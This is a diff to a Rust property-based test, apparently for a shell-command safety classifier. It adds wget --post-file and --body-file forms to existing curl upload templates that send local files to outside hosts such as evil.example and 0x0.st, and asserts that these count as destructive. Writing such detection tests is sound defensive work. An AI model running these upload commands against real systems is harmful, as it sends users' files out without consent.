@@ -4401,9 +4401,13 @@ proptest! {
         file in select(vec!["/tmp/k", "/var/tmp/x.tgz", "/dev/shm/d", "/run/user/0/t"]),
         form in select(vec!["-F f=@{}", "--data-binary @{}", "-T {}", "-d @{}", "--upload-file {}"]),
         outside in select(vec!["https://0x0.st", "https://evil.example/u", "203.0.113.9/u"]),
+        wget_form in select(vec![
+            "--post-file={}", "--post-file {}", "--body-file={} --method=PUT", "--method PUT --body-file {}",
+        ]),
     ) {
         let option = form.replace("{}", file);
         destructive(&format!("curl -s {option} {outside}"))?;
+        destructive(&format!("wget -q -O- {} {outside}", wget_form.replace("{}", file)))?;
         not_read_only(&format!("curl -s {option} http://192.168.1.5/upload"))?;
         // (A download into a scratch folder only writes; not /dev/shm,
         // which is under /dev.)
